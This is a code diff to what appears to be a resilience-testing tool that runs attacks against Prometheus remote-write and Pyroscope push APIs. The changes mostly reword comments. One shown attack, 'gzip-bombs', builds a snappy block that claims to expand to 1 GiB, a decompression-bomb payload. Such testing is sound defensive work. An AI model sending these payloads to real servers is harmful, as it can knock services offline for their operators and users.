@@ -1,4 +1,5 @@
-// The same attacks on the APIs of peers: Prometheus' remote write and queries, Pyroscope's pushes.
+// The same attacks on APIs of other servers: Prometheus' remote write and queries, and Pyroscope's
+// pushes.
 import { gzipSync } from 'node:zlib';
 import type { Attack, Target } from '../attack.ts';
 import { makeGzippedPprof, ordinaryShape, type Shape } from '../bodies/pprof.ts';
@@ -6,7 +7,7 @@ import { type RemoteSample, encodeRemoteWrite } from '../bodies/remote-write.ts'
 import { flood, send, shooting, type Shot } from '../client.ts';
 import { manyTargets } from './targets.ts';
 
-/** Makes a remote write of series, each with labels made from its number. */
+/** Makes a remote-write request for `count` series; `labelsOf` returns the labels of the i-th. */
 function remoteWrite(count: number, labelsOf: (i: number) => RemoteSample['labels']): Shot {
   const samples = Array.from({ length: count }, (_, i) => ({
     labels: { __name__: 'attack', ...labelsOf(i) },
@@ -109,7 +110,7 @@ const prometheusAttacks: readonly Attack[] = [
     name: 'gzip-bombs',
     door: 'prometheus',
     prepare: async (target) => {
-      // A block of snappy that claims to expand to 1 GiB, and only copies one byte again and again.
+      // A snappy block that claims to expand to 1 GiB, and only copies one byte again and again.
       const copies = Buffer.alloc(3 * 1_000_000, Buffer.from([0xfe, 1, 0]));
       const body = Buffer.concat([Buffer.from([0x80, 0x80, 0x80, 0x80, 4, 0, 0x61]), copies]);
       const headers = { 'content-type': 'application/x-protobuf', 'content-encoding': 'snappy' };
